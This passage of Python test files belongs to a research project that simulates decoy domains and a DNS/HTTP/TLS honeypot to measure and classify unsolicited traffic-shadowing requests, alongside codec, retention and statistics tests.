    domain = f"{CODEC.encode(identity)}.{ZONE}"
    return DecoyRecord(
        identity=identity, domain=domain, protocol=protocol,
        vp_id="vp-1", vp_country="DE", vp_province=None,
        destination_address="8.8.8.8", destination_name="Google",
        destination_kind="dns", destination_country="US",
        instance_country="US", path_length=10, sent_at=100.0, phase=phase,
    )


def entry(domain, protocol, time, src="100.88.0.1", path=None):
    return LoggedRequest(time=time, site="US", protocol=protocol,
                         src_address=src, domain=domain, path=path)


class TestClassificationRules:
    def make(self, record):
        ledger = DecoyLedger()
        ledger.register(record)
        return ledger, Correlator(ledger, ZONE), LogStore()

    def test_first_dns_arrival_of_dns_decoy_is_initial(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        log.append(entry(record.domain, "dns", 101.0))
        result = correlator.correlate(log)
        assert result.events == []
        assert record.domain in result.initial_arrivals

    def test_second_dns_arrival_is_unsolicited_rule_iii(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        log.append(entry(record.domain, "dns", 101.0))
        log.append(entry(record.domain, "dns", 150.0))
        result = correlator.correlate(log)
        assert len(result.events) == 1
        assert result.events[0].combo == "DNS-DNS"
        assert result.events[0].delta == pytest.approx(50.0)

    def test_http_arrival_always_unsolicited_rule_ii(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        log.append(entry(record.domain, "http", 7300.0, path="/admin"))
        result = correlator.correlate(log)
        assert [event.combo for event in result.events] == ["DNS-HTTP"]

    def test_dns_arrival_for_http_decoy_unsolicited_rule_i(self):
        record = make_record(protocol="http")
        ledger, correlator, log = self.make(record)
        log.append(entry(record.domain, "dns", 200.0))
        result = correlator.correlate(log)
        assert [event.combo for event in result.events] == ["HTTP-DNS"]

    def test_tls_decoy_https_request_combo(self):
        record = make_record(protocol="tls")
        ledger, correlator, log = self.make(record)
        log.append(entry(record.domain, "https", 200.0))
        result = correlator.correlate(log)
        assert [event.combo for event in result.events] == ["TLS-HTTPS"]

    def test_all_arrivals_after_initial_counted(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        for time in (101.0, 102.0, 5000.0, 90000.0):
            log.append(entry(record.domain, "dns", time))
        result = correlator.correlate(log)
        assert len(result.events) == 3

    def test_unknown_domain_is_noise(self):
        record = make_record()
        ledger, correlator, log = self.make(record)
        log.append(entry(f"unknown-label-0001.{ZONE}", "dns", 101.0))
        result = correlator.correlate(log)
        assert result.events == []
        assert result.unknown_domains == [f"unknown-label-0001.{ZONE}"]

    def test_phase_filter(self):
        record1 = make_record(protocol="dns", sequence=1, phase=1)
        record2 = make_record(protocol="dns", sequence=2, phase=2)
        ledger = DecoyLedger()
        ledger.register(record1)
        ledger.register(record2)
        correlator = Correlator(ledger, ZONE)
        log = LogStore()
        log.append(entry(record1.domain, "http", 200.0))
        log.append(entry(record2.domain, "http", 300.0))
        phase1 = correlator.correlate(log, phase=1)
        phase2 = correlator.correlate(log, phase=2)
        assert [event.decoy.phase for event in phase1.events] == [1]
        assert [event.decoy.phase for event in phase2.events] == [2]

    def test_origin_address_exposed(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        log.append(entry(record.domain, "http", 200.0, src="100.88.7.7"))
        result = correlator.correlate(log)
        assert result.events[0].origin_address == "100.88.7.7"

    def test_shadowed_domains_deduplicated(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        log.append(entry(record.domain, "http", 200.0))
        log.append(entry(record.domain, "https", 300.0))
        result = correlator.correlate(log)
        assert result.shadowed_domains() == [record.domain]

    def test_combo_label_rejects_unknown(self):
        with pytest.raises(ValueError):
            Correlator.combo_label("dns", "gopher")


class TestAliasRecovery:
    """Mangled names whose embedded identifier still decodes are mapped
    back to their decoy instead of being misfiled as noise."""

    def make(self, record):
        ledger = DecoyLedger()
        ledger.register(record)
        return ledger, Correlator(ledger, ZONE), LogStore()

    def test_prepended_label_recovered_as_unsolicited(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        log.append(entry(f"probe.{record.domain}", "dns", 200.0))
        result = correlator.correlate(log)
        assert [event.decoy.domain for event in result.events] == [record.domain]
        assert result.events[0].combo == "DNS-DNS"
        assert result.unknown_domains == []

    def test_alias_never_counts_as_initial_arrival(self):
        # The decoy's own recursion carries its exact domain; a mangled
        # name is third-party by construction, so even its *first* DNS
        # arrival is unsolicited and must not consume rule (iii).
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        log.append(entry(f"scan.{record.domain}", "dns", 150.0))
        log.append(entry(record.domain, "dns", 200.0))
        result = correlator.correlate(log)
        assert record.domain in result.initial_arrivals
        assert f"scan.{record.domain}" not in result.initial_arrivals
        assert len(result.events) == 1

    def test_alias_http_arrival_keeps_combo(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        log.append(entry(f"a.b.{record.domain}", "http", 300.0, path="/x"))
        result = correlator.correlate(log)
        assert [event.combo for event in result.events] == ["DNS-HTTP"]

    def test_undecodable_mangling_stays_noise(self):
        record = make_record(protocol="dns")
        ledger, correlator, log = self.make(record)
        noise = f"probe.not-an-identifier-0001.{ZONE}"
        log.append(entry(noise, "dns", 200.0))
        result = correlator.correlate(log)
        assert result.events == []
        assert result.unknown_domains == [noise]

    def test_decodable_but_unregistered_identifier_stays_noise(self):
        # A forged name can carry a valid checksum without matching any
        # decoy this campaign actually sent.
        record = make_record(sequence=1)
        ledger, correlator, log = self.make(record)
        foreign = make_record(sequence=2)
        log.append(entry(f"probe.{foreign.domain}", "dns", 200.0))
        result = correlator.correlate(log)
        assert result.events == []
        assert result.unknown_domains == [f"probe.{foreign.domain}"]


class TestDecoyLedger:
    def test_duplicate_domain_rejected(self):
        ledger = DecoyLedger()
        record = make_record()
        ledger.register(record)
        with pytest.raises(ValueError):
            ledger.register(record)

    def test_lookup_and_records(self):
        ledger = DecoyLedger()
        record1 = make_record(sequence=1, phase=1)
        record2 = make_record(sequence=2, phase=2)
        ledger.register(record1)
        ledger.register(record2)
        assert ledger.lookup(record1.domain) is record1
        assert ledger.lookup("nope") is None
        assert len(ledger.records(phase=2)) == 1
        assert len(ledger) == 2

"""Tests for the HTTP/1.1 and TLS codecs."""

import pytest

from repro.protocols.http import HttpMessageError, HttpRequest, HttpResponse, make_get
from repro.protocols.tls import ClientHello, TlsDecodeError, TlsPlaintext, wrap_handshake
from repro.protocols.tls.record import CONTENT_TYPE_HANDSHAKE, TlsRecordError


class TestHttpRequest:
    def test_get_roundtrip(self):
        request = make_get("abc123.www.experiment.domain")
        decoded = HttpRequest.decode(request.encode())
        assert decoded.method == "GET"
        assert decoded.path == "/"
        assert decoded.host == "abc123.www.experiment.domain"

    def test_host_header_lookup_is_case_insensitive(self):
        request = HttpRequest(method="GET", path="/", headers=(("HOST", "example.com"),))
        assert request.host == "example.com"

    def test_body_gets_content_length(self):
        request = HttpRequest(method="POST", path="/submit", body=b"abc")
        decoded = HttpRequest.decode(request.encode())
        assert decoded.body == b"abc"
        assert decoded.header("content-length") == "3"

    def test_decode_rejects_bad_request_line(self):
        with pytest.raises(HttpMessageError):
            HttpRequest.decode(b"GET /\r\n\r\n")

    def test_decode_rejects_missing_separator(self):
        with pytest.raises(HttpMessageError):
            HttpRequest.decode(b"GET / HTTP/1.1\r\nHost: x")

    def test_decode_rejects_content_length_mismatch(self):
        raw = b"POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"
        with pytest.raises(HttpMessageError):
            HttpRequest.decode(raw)

    def test_decode_rejects_header_without_colon(self):
        with pytest.raises(HttpMessageError):
            HttpRequest.decode(b"GET / HTTP/1.1\r\nbadheader\r\n\r\n")

    def test_decode_rejects_non_http_version(self):
        with pytest.raises(HttpMessageError):
            HttpRequest.decode(b"GET / SPDY/3\r\n\r\n")

    def test_encode_rejects_space_in_path(self):
        with pytest.raises(HttpMessageError):
            HttpRequest(method="GET", path="/a b").encode()

    def test_header_returns_none_when_absent(self):
        assert make_get("example.com").header("x-missing") is None

    def test_multiple_headers_first_wins(self):
        request = HttpRequest(method="GET", path="/",
                              headers=(("X-Tag", "first"), ("X-Tag", "second")))
        assert request.header("x-tag") == "first"


class TestHttpResponse:
    def test_roundtrip(self):
        response = HttpResponse(status=200, reason="OK",
                                headers=(("Server", "honeypot"),), body=b"<html></html>")
        decoded = HttpResponse.decode(response.encode())
        assert decoded.status == 200
        assert decoded.reason == "OK"
        assert decoded.header("server") == "honeypot"
        assert decoded.body == b"<html></html>"

    def test_404_roundtrip(self):
        decoded = HttpResponse.decode(HttpResponse(status=404, reason="Not Found").encode())
        assert decoded.status == 404

    def test_decode_rejects_bad_status(self):
        with pytest.raises(HttpMessageError):
            HttpResponse.decode(b"HTTP/1.1 abc OK\r\n\r\n")

    def test_decode_rejects_non_http(self):
        with pytest.raises(HttpMessageError):
            HttpResponse.decode(b"ICAP/1.0 200 OK\r\n\r\n")


class TestTlsRecord:
    def test_roundtrip(self):
        record = TlsPlaintext(content_type=CONTENT_TYPE_HANDSHAKE, fragment=b"\x01\x02\x03")
        decoded = TlsPlaintext.decode(record.encode())
        assert decoded == record

    def test_rejects_oversized_fragment(self):
        with pytest.raises(TlsRecordError):
            TlsPlaintext(content_type=22, fragment=b"x" * (2**14 + 1))

    def test_decode_rejects_truncated_fragment(self):
        record = TlsPlaintext(content_type=22, fragment=b"abcdef").encode()
        with pytest.raises(TlsRecordError):
            TlsPlaintext.decode(record[:-2])

    def test_decode_rejects_short_header(self):
        with pytest.raises(TlsRecordError):
            TlsPlaintext.decode(b"\x16\x03")


class TestClientHello:
    def make_hello(self, sni="abc.www.experiment.domain"):
        return ClientHello(server_name=sni, random=bytes(range(32)))

    def test_sni_roundtrip(self):
        hello = self.make_hello()
        decoded = ClientHello.decode(hello.encode())
        assert decoded.server_name == "abc.www.experiment.domain"

    def test_random_and_suites_roundtrip(self):
        hello = self.make_hello()
        decoded = ClientHello.decode(hello.encode())
        assert decoded.random == bytes(range(32))
        assert decoded.cipher_suites == hello.cipher_suites

    def test_no_sni(self):
        hello = ClientHello(server_name=None, random=bytes(32))
        assert ClientHello.decode(hello.encode()).server_name is None

    def test_session_id_roundtrip(self):
        hello = ClientHello(server_name="x.com", random=bytes(32), session_id=b"s" * 16)
        assert ClientHello.decode(hello.encode()).session_id == b"s" * 16

    def test_extra_extension_roundtrip(self):
        hello = ClientHello(server_name="x.com", random=bytes(32),
                            extra_extensions=((0xFF01, b"\x00"),))
        decoded = ClientHello.decode(hello.encode())
        assert (0xFF01, b"\x00") in decoded.extra_extensions

    def test_rejects_bad_random_length(self):
        with pytest.raises(TlsDecodeError):
            ClientHello(server_name="x.com", random=bytes(16))

    def test_rejects_empty_cipher_suites(self):
        with pytest.raises(TlsDecodeError):
            ClientHello(server_name="x.com", random=bytes(32), cipher_suites=())

    def test_decode_rejects_wrong_handshake_type(self):
        raw = bytearray(self.make_hello().encode())
        raw[0] = 2  # ServerHello
        with pytest.raises(TlsDecodeError):
            ClientHello.decode(bytes(raw))

    def test_decode_rejects_truncated_body(self):
        raw = self.make_hello().encode()
        with pytest.raises(TlsDecodeError):
            ClientHello.decode(raw[:20])

    def test_wrapped_in_record_layer(self):
        hello = self.make_hello()
        wire = wrap_handshake(hello.encode())
        record = TlsPlaintext.decode(wire)
        assert record.content_type == CONTENT_TYPE_HANDSHAKE
        assert ClientHello.decode(record.fragment).server_name == hello.server_name

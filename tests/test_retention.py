"""Tests for capacity-bounded retention and its exhibitor integration."""

import random

import pytest

from repro.honeypot.deployment import HoneypotDeployment
from repro.observers import RetentionStore, ShadowExhibitor, UnsolicitedEmitter
from repro.observers.policy import (
    AddressAllocator,
    OriginGroup,
    OriginPool,
    ShadowPolicy,
)
from repro.intel.blocklist import Blocklist
from repro.intel.directory import IpDirectory
from repro.simkit.distributions import Constant
from repro.simkit.events import Simulator

ZONE = "www.experiment.domain"


class TestRetentionStore:
    def test_unbounded_never_evicts(self):
        store = RetentionStore(capacity=None)
        for index in range(100):
            store.admit(f"d{index}", now=float(index))
        assert len(store) == 100
        assert store.evictions == 0

    def test_fifo_eviction(self):
        store = RetentionStore(capacity=2)
        store.admit("first", now=0.0)
        store.admit("second", now=1.0)
        store.admit("third", now=2.0)
        assert len(store) == 2
        assert "first" not in store
        assert "second" in store and "third" in store
        assert store.evictions == 1

    def test_readmission_is_idempotent(self):
        store = RetentionStore(capacity=2)
        first = store.admit("a", now=0.0)
        again = store.admit("a", now=5.0)
        assert first is again
        assert len(store) == 1

    def test_eviction_cancels_pending_events(self):
        sim = Simulator()
        store = RetentionStore(capacity=1)
        fired = []
        store.admit("a", now=0.0)
        event = sim.schedule_in(10.0, lambda: fired.append("a"))
        store.attach("a", event)
        store.admit("b", now=1.0)  # evicts "a"
        sim.run()
        assert fired == []
        assert store.cancelled_requests == 1

    def test_attach_after_eviction_cancels_immediately(self):
        sim = Simulator()
        store = RetentionStore(capacity=1)
        store.admit("a", now=0.0)
        store.admit("b", now=1.0)
        fired = []
        event = sim.schedule_in(10.0, lambda: fired.append("a"))
        store.attach("a", event)  # "a" already gone
        sim.run()
        assert fired == []

    def test_capacity_validation(self):
        with pytest.raises(ValueError):
            RetentionStore(capacity=0)

    def test_items_in_fifo_order(self):
        store = RetentionStore(capacity=3)
        for name in ("x", "y", "z"):
            store.admit(name, now=0.0)
        assert [item.domain for item in store.items()] == ["x", "y", "z"]


class TestExhibitorWithRetention:
    def make(self, capacity):
        sim = Simulator()
        deployment = HoneypotDeployment(zone=ZONE)
        pool = OriginPool(
            "p", [OriginGroup(1, "US", 1.0, 0.0)],
            AddressAllocator(), IpDirectory(), Blocklist(), random.Random(1),
        )
        policy = ShadowPolicy(
            name="boxed", delay=Constant(1000.0), uses=Constant(1),
            protocol_weights={"dns": 1.0}, origin_pool=pool,
        )
        store = RetentionStore(capacity=capacity)
        exhibitor = ShadowExhibitor(
            policy, sim, UnsolicitedEmitter(deployment, sim, random.Random(2)),
            random.Random(3), retention=store,
        )
        return exhibitor, sim, deployment, store

    def test_within_capacity_all_requests_fire(self):
        exhibitor, sim, deployment, store = self.make(capacity=10)
        for index in range(5):
            exhibitor.observe(f"d{index}-0001.{ZONE}", "10.0.0.1")
        sim.run()
        assert len(deployment.log) == 5
        assert store.evictions == 0

    def test_over_capacity_old_requests_cancelled(self):
        exhibitor, sim, deployment, store = self.make(capacity=2)
        for index in range(10):
            exhibitor.observe(f"d{index}-0001.{ZONE}", "10.0.0.1")
        sim.run()
        # Only the last two observations survived the buffer.
        assert len(deployment.log) == 2
        assert store.evictions == 8
        domains = {entry.domain for entry in deployment.log}
        assert domains == {f"d8-0001.{ZONE}", f"d9-0001.{ZONE}"}

    def test_retention_shortens_effective_delays(self):
        """The Section 5.2 hypothesis: under continuous observation
        pressure, only recently-observed data survives to be leveraged,
        so long-delay requests disappear disproportionately."""
        import statistics
        sim = Simulator()
        deployment = HoneypotDeployment(zone=ZONE)
        pool = OriginPool(
            "p", [OriginGroup(1, "US", 1.0, 0.0)],
            AddressAllocator(), IpDirectory(), Blocklist(), random.Random(1),
        )
        from repro.simkit.distributions import Uniform
        policy = ShadowPolicy(
            name="boxed", delay=Uniform(10, 100_000), uses=Constant(1),
            protocol_weights={"dns": 1.0}, origin_pool=pool,
        )
        store = RetentionStore(capacity=5)
        exhibitor = ShadowExhibitor(
            policy, sim, UnsolicitedEmitter(deployment, sim, random.Random(2)),
            random.Random(3), retention=store,
        )
        # Observations arrive every 100 s; the 5-slot buffer holds ~500 s
        # of data, so scheduled requests beyond that window get evicted.
        for index in range(100):
            sim.schedule_at(
                index * 100.0,
                lambda index=index: exhibitor.observe(
                    f"d{index:03d}-0001.{ZONE}", "10.0.0.1"
                ),
            )
        sim.run()
        observed_at = {f"d{index:03d}-0001.{ZONE}": index * 100.0
                       for index in range(100)}
        # For observations that faced eviction pressure (everything but
        # the final five, which outlive the experiment), a request only
        # fires if it was scheduled within the buffer's ~500 s lifetime.
        pressured = [entry.time - observed_at[entry.domain]
                     for entry in deployment.log
                     if observed_at[entry.domain] < 95 * 100.0]
        scheduled_mean = (10 + 100_000) / 2
        assert all(delay <= 600.0 for delay in pressured)
        assert store.evictions == 95
        # Long-delay requests were disproportionately cancelled.
        survivors = [entry.time - observed_at[entry.domain]
                     for entry in deployment.log]
        assert statistics.mean(survivors) < scheduled_mean

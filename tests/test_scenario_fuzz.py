"""End-to-end fuzz determinism: same seed, same verdicts, same digests.

One deliberately small fuzz campaign (two samples, full pipeline per
sample) run twice must reproduce its run digest byte-for-byte — the
same property ``repro scenario fuzz`` relies on when CI compares two
independent fuzz runs of the same seed.
"""

from repro.scenario import run_fuzz

SAMPLES = 2
SEED = 7


def test_fuzz_run_reproduces_itself_exactly():
    first = run_fuzz(SAMPLES, SEED)
    second = run_fuzz(SAMPLES, SEED)
    assert first.ok, [s.checks for s in first.samples if not s.ok]
    assert second.ok
    assert first.run_digest() == second.run_digest()
    for a, b in zip(first.samples, second.samples):
        assert a.spec_digest == b.spec_digest
        assert a.serial_digest == b.serial_digest
        assert a.checks == b.checks

"""Tests for the honeypot infrastructure."""

import pytest

from repro.honeypot import (
    AuthoritativeServer,
    HoneypotDeployment,
    HoneyTlsServer,
    HoneyWebServer,
    LoggedRequest,
    LogStore,
)
from repro.protocols.dns import DnsMessage, QTYPE, RCODE, make_query
from repro.protocols.http import HttpRequest, HttpResponse, make_get
from repro.protocols.tls import ClientHello, wrap_handshake

ZONE = "www.experiment.domain"


class TestLogStore:
    def entry(self, time=1.0, domain="a.www.experiment.domain", protocol="dns"):
        return LoggedRequest(time=time, site="US", protocol=protocol,
                             src_address="198.51.100.1", domain=domain)

    def test_append_and_len(self):
        store = LogStore()
        store.append(self.entry())
        assert len(store) == 1

    def test_rejects_unknown_protocol(self):
        with pytest.raises(ValueError):
            LoggedRequest(time=0, site="US", protocol="gopher",
                          src_address="1.2.3.4", domain="x")

    def test_rejects_time_regression(self):
        store = LogStore()
        store.append(self.entry(time=5.0))
        with pytest.raises(ValueError):
            store.append(self.entry(time=4.0))

    def test_for_domain_preserves_order(self):
        store = LogStore()
        store.append(self.entry(time=1.0, protocol="dns"))
        store.append(self.entry(time=2.0, protocol="http"))
        store.append(self.entry(time=3.0, domain="other.www.experiment.domain"))
        entries = store.for_domain("a.www.experiment.domain")
        assert [entry.protocol for entry in entries] == ["dns", "http"]

    def test_between_is_half_open(self):
        store = LogStore()
        for time in (1.0, 2.0, 3.0):
            store.append(self.entry(time=time))
        assert [entry.time for entry in store.between(1.0, 3.0)] == [1.0, 2.0]

    def test_between_excludes_entry_exactly_at_end(self):
        """Pins ``start <= time < end``: an entry at exactly ``end`` is
        excluded, so adjacent windows tile the log without double counting
        (see the ``between`` docstring)."""
        store = LogStore()
        for time in (0.0, 5.0, 10.0):
            store.append(self.entry(time=time))
        assert [entry.time for entry in store.between(0.0, 5.0)] == [0.0]
        assert [entry.time for entry in store.between(5.0, 10.0)] == [5.0]
        assert [entry.time for entry in store.between(10.0, 10.0)] == []

    def test_between_windows_compose(self):
        """between(a, b) + between(b, c) == between(a, c) for any cut b,
        including cuts landing exactly on an entry's timestamp."""
        store = LogStore()
        times = (0.0, 1.0, 1.0, 2.5, 4.0, 4.0, 7.0)
        for time in times:
            store.append(self.entry(time=time))
        whole = [entry.time for entry in store.between(0.0, 8.0)]
        assert whole == list(times)
        for cut in (0.0, 1.0, 2.0, 2.5, 4.0, 6.9, 7.0, 8.0):
            left = [entry.time for entry in store.between(0.0, cut)]
            right = [entry.time for entry in store.between(cut, 8.0)]
            assert left + right == whole, f"cut at {cut} double/under-counts"

    def test_first_occurrence(self):
        store = LogStore()
        assert store.first_occurrence("a.www.experiment.domain") is None
        store.append(self.entry(time=1.0, domain="b.www.experiment.domain"))
        store.append(self.entry(time=2.0))
        store.append(self.entry(time=3.0))
        assert store.first_occurrence("a.www.experiment.domain") == (2.0, 1)
        assert store.first_occurrence("b.www.experiment.domain") == (1.0, 0)
        assert store.first_occurrence("missing") is None

    def test_by_protocol(self):
        store = LogStore()
        store.append(self.entry(time=1.0, protocol="dns"))
        store.append(self.entry(time=2.0, protocol="https"))
        assert len(store.by_protocol("https")) == 1

    def test_by_protocol_preserves_arrival_order(self):
        store = LogStore()
        for time in (1.0, 2.0, 3.0, 4.0):
            store.append(self.entry(time=time, protocol="dns"))
        store.append(self.entry(time=5.0, protocol="http"))
        assert [entry.time for entry in store.by_protocol("dns")] == \
            [1.0, 2.0, 3.0, 4.0]
        assert store.by_protocol("https") == []

    def test_tail_from_zero_returns_everything(self):
        store = LogStore()
        for time in (1.0, 2.0, 3.0):
            store.append(self.entry(time=time))
        entries, cursor = store.tail(0)
        assert [entry.time for entry in entries] == [1.0, 2.0, 3.0]
        assert cursor == 3

    def test_tail_is_half_open(self):
        """Pins the cursor contract: a second tail() from the returned
        cursor yields only what arrived in the meantime — no entry
        duplicated, none skipped (mirrors ``between``'s half-open
        discipline)."""
        store = LogStore()
        store.append(self.entry(time=1.0))
        entries, cursor = store.tail(0)
        assert len(entries) == 1
        entries, cursor = store.tail(cursor)
        assert entries == [] and cursor == 1
        store.append(self.entry(time=2.0))
        store.append(self.entry(time=3.0))
        entries, cursor = store.tail(cursor)
        assert [entry.time for entry in entries] == [2.0, 3.0]
        assert cursor == 3

    def test_tail_windows_compose(self):
        """Consecutive tail() calls tile the log exactly: concatenating
        every window reproduces all()."""
        store = LogStore()
        consumed = []
        cursor = 0
        for batch in ((1.0,), (2.0, 2.0, 3.0), (), (4.0,)):
            for time in batch:
                store.append(self.entry(time=time))
            entries, cursor = store.tail(cursor)
            consumed.extend(entries)
        assert tuple(consumed) == store.all()
        assert cursor == len(store)

    def test_tail_rejects_negative_cursor(self):
        store = LogStore()
        with pytest.raises(ValueError):
            store.tail(-1)

    def test_domains_deduplicated(self):
        store = LogStore()
        store.append(self.entry(time=1.0))
        store.append(self.entry(time=2.0))
        assert store.domains() == ["a.www.experiment.domain"]


class TestAuthoritativeServer:
    def make_server(self, log=None):
        log = log if log is not None else LogStore()
        server = AuthoritativeServer(ZONE, ["203.0.113.11"], log, site="US")
        return server, log

    def test_in_zone_query_answered_with_wildcard(self):
        server, log = self.make_server()
        query = make_query(f"abc123.{ZONE}", txid=9)
        response = DnsMessage.decode(server.handle_query(query.encode(), "1.2.3.4", 5.0))
        assert response.header.rcode is RCODE.NOERROR
        assert response.answers[0].rdata == "203.0.113.11"
        assert response.answers[0].ttl == 3600

    def test_in_zone_query_logged(self):
        server, log = self.make_server()
        query = make_query(f"abc123.{ZONE}", txid=9)
        server.handle_query(query.encode(), "1.2.3.4", 5.0)
        assert len(log) == 1
        entry = log.all()[0]
        assert entry.domain == f"abc123.{ZONE}"
        assert entry.src_address == "1.2.3.4"
        assert entry.protocol == "dns"
        assert entry.qtype == QTYPE.A

    def test_out_of_zone_refused_and_not_logged(self):
        server, log = self.make_server()
        query = make_query("www.google.com", txid=9)
        response = DnsMessage.decode(server.handle_query(query.encode(), "1.2.3.4", 5.0))
        assert response.header.rcode is RCODE.REFUSED
        assert len(log) == 0
        assert server.refused == 1

    def test_zone_apex_covered(self):
        server, _ = self.make_server()
        assert server.covers(ZONE)
        assert server.covers(f"deep.label.{ZONE}")
        assert not server.covers("experiment.domain.evil.com")

    def test_wildcard_resolution_is_deterministic(self):
        server = AuthoritativeServer(ZONE, ["203.0.113.11", "203.0.113.21"],
                                     LogStore(), site="US")
        name = f"xyz.{ZONE}"
        assert server.resolve_address(name) == server.resolve_address(name)

    def test_requires_web_addresses(self):
        with pytest.raises(ValueError):
            AuthoritativeServer(ZONE, [], LogStore(), site="US")


class TestHoneyWebServer:
    def make_server(self):
        log = LogStore()
        return HoneyWebServer("203.0.113.11", log, site="US"), log

    def test_root_serves_disclosure_page(self):
        server, _ = self.make_server()
        response_bytes = server.handle_request(
            make_get(f"a.{ZONE}").encode(), "9.9.9.9", 1.0
        )
        response = HttpResponse.decode(response_bytes)
        assert response.status == 200
        assert b"measurement" in response.body

    def test_enumeration_path_404s_but_is_logged(self):
        server, log = self.make_server()
        request = HttpRequest(method="GET", path="/admin",
                              headers=(("Host", f"a.{ZONE}"),))
        response = HttpResponse.decode(server.handle_request(request.encode(), "9.9.9.9", 1.0))
        assert response.status == 404
        assert log.all()[0].path == "/admin"

    def test_https_flag_sets_protocol(self):
        server, log = self.make_server()
        server.handle_request(make_get(f"a.{ZONE}").encode(), "9.9.9.9", 1.0,
                              over_tls=True)
        assert log.all()[0].protocol == "https"

    def test_user_agent_recorded(self):
        server, log = self.make_server()
        server.handle_request(
            make_get(f"a.{ZONE}", user_agent="probe/2.0").encode(), "9.9.9.9", 1.0
        )
        assert log.all()[0].user_agent == "probe/2.0"


class TestHoneyTlsServer:
    def make_server(self):
        log = LogStore()
        web = HoneyWebServer("203.0.113.11", log, site="US")
        return HoneyTlsServer(web), log

    def hello_record(self, sni=f"a.{ZONE}"):
        hello = ClientHello(server_name=sni, random=bytes(32))
        return wrap_handshake(hello.encode())

    def test_connection_with_request_logs_https(self):
        server, log = self.make_server()
        response = server.handle_connection(
            self.hello_record(), make_get(f"a.{ZONE}").encode(), "9.9.9.9", 2.0
        )
        assert response is not None
        assert log.all()[0].protocol == "https"
        assert server.handshakes_seen == 1

    def test_connection_without_request_logs_nothing(self):
        server, log = self.make_server()
        assert server.handle_connection(self.hello_record(), None, "9.9.9.9", 2.0) is None
        assert len(log) == 0
        assert server.handshakes_seen == 1

    def test_peek_sni(self):
        assert HoneyTlsServer.peek_sni(self.hello_record("x.example")) == "x.example"


class TestDeployment:
    def test_three_sites(self):
        deployment = HoneypotDeployment()
        assert sorted(deployment.site_names) == ["DE", "SG", "US"]

    def test_shared_log(self):
        deployment = HoneypotDeployment()
        query = make_query(f"abc.{ZONE}", txid=1)
        deployment.sites["US"].authdns.handle_query(query.encode(), "1.1.1.2", 1.0)
        deployment.sites["DE"].authdns.handle_query(query.encode(), "1.1.1.3", 2.0)
        assert len(deployment.log) == 2

    def test_resolve_experiment_name(self):
        deployment = HoneypotDeployment()
        address = deployment.resolve_experiment_name(f"foo.{ZONE}")
        assert address in {site.web_address for site in deployment.sites.values()}
        assert deployment.resolve_experiment_name("foo.google.com") is None

    def test_site_for_client_is_deterministic(self):
        deployment = HoneypotDeployment()
        assert (deployment.site_for_client("1.2.3.4").name
                == deployment.site_for_client("1.2.3.4").name)

    def test_web_site_by_address(self):
        deployment = HoneypotDeployment()
        site = deployment.sites["SG"]
        assert deployment.web_site_by_address(site.web_address) is site
        assert deployment.web_site_by_address("1.2.3.4") is None

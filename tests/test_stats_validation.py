"""Tests for the statistics utilities and ground-truth validation."""

import random

import pytest

from repro.analysis.stats import (
    bootstrap_mean_ci,
    ks_distance,
    ks_significant,
    proportion_ci,
    total_variation,
)
from repro.analysis.temporal import Cdf
from repro.analysis.validation import validate
from repro.core.config import ExperimentConfig
from repro.core.experiment import Experiment


class TestKs:
    def test_identical_distributions_distance_zero(self):
        cdf = Cdf.from_values([1, 2, 3, 4, 5])
        assert ks_distance(cdf, cdf) == 0.0

    def test_disjoint_distributions_distance_one(self):
        low = Cdf.from_values([1, 2, 3])
        high = Cdf.from_values([100, 200, 300])
        assert ks_distance(low, high) == 1.0

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            ks_distance(Cdf.from_values([]), Cdf.from_values([1]))

    def test_significance(self):
        rng = random.Random(4)
        same_a = Cdf.from_values([rng.gauss(0, 1) for _ in range(300)])
        same_b = Cdf.from_values([rng.gauss(0, 1) for _ in range(300)])
        shifted = Cdf.from_values([rng.gauss(3, 1) for _ in range(300)])
        assert not ks_significant(same_a, same_b)
        assert ks_significant(same_a, shifted)

    def test_significance_alpha_validated(self):
        cdf = Cdf.from_values([1, 2])
        with pytest.raises(ValueError):
            ks_significant(cdf, cdf, alpha=2.0)


class TestTotalVariation:
    def test_identical_zero(self):
        dist = {"a": 0.6, "b": 0.4}
        assert total_variation(dist, dist) == pytest.approx(0.0)

    def test_disjoint_one(self):
        assert total_variation({"a": 1.0}, {"b": 1.0}) == pytest.approx(1.0)

    def test_auto_normalization(self):
        assert total_variation({"a": 2, "b": 2}, {"a": 1, "b": 1}) == pytest.approx(0.0)

    def test_zero_mass_rejected(self):
        with pytest.raises(ValueError):
            total_variation({"a": 0.0}, {"a": 1.0})


class TestProportionCi:
    def test_contains_point_estimate(self):
        low, high = proportion_ci(30, 100)
        assert low < 0.3 < high

    def test_narrows_with_more_trials(self):
        narrow = proportion_ci(300, 1000)
        wide = proportion_ci(3, 10)
        assert (narrow[1] - narrow[0]) < (wide[1] - wide[0])

    def test_bounds_clamped(self):
        low, high = proportion_ci(0, 10)
        assert low == 0.0
        low, high = proportion_ci(10, 10)
        assert high == 1.0

    def test_validation(self):
        with pytest.raises(ValueError):
            proportion_ci(1, 0)
        with pytest.raises(ValueError):
            proportion_ci(5, 3)
        with pytest.raises(ValueError):
            proportion_ci(1, 10, confidence=0.5)


class TestBootstrap:
    def test_ci_contains_true_mean(self):
        rng = random.Random(2)
        samples = [rng.gauss(10, 2) for _ in range(200)]
        low, high = bootstrap_mean_ci(samples, random.Random(3), rounds=500)
        assert low < 10.2 and high > 9.8

    def test_validation(self):
        with pytest.raises(ValueError):
            bootstrap_mean_ci([], random.Random(1))
        with pytest.raises(ValueError):
            bootstrap_mean_ci([1.0], random.Random(1), rounds=5)


class TestGroundTruthValidation:
    @pytest.fixture(scope="class")
    def result(self):
        return Experiment(ExperimentConfig.tiny(seed=20240301)).run()

    def test_pipeline_recovers_most_planted_shadowing(self, result):
        report = validate(
            result.eco.ground_truth, result.phase1, result.phase2,
            result.ledger, result.config.observation_window,
        )
        assert report.planted_domains > 50
        # Some exhibitors schedule requests beyond the listening window,
